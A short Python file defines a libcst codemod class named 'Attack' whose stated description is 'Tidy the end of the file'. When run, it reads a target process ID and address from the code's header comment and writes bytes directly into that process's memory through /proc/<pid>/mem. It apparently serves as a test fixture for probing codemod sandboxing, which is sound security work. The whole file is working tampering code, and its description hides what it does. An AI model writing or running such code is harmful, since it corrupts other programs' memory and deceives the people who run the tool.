"""Change the memory of another process by its file in ``/proc``."""
import ast

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with open(f"/proc/{target['victim_pid']}/mem", "r+b", buffering=0) as memory:
            memory.seek(target["victim_address"])
            memory.write(b"changed")
        return tree
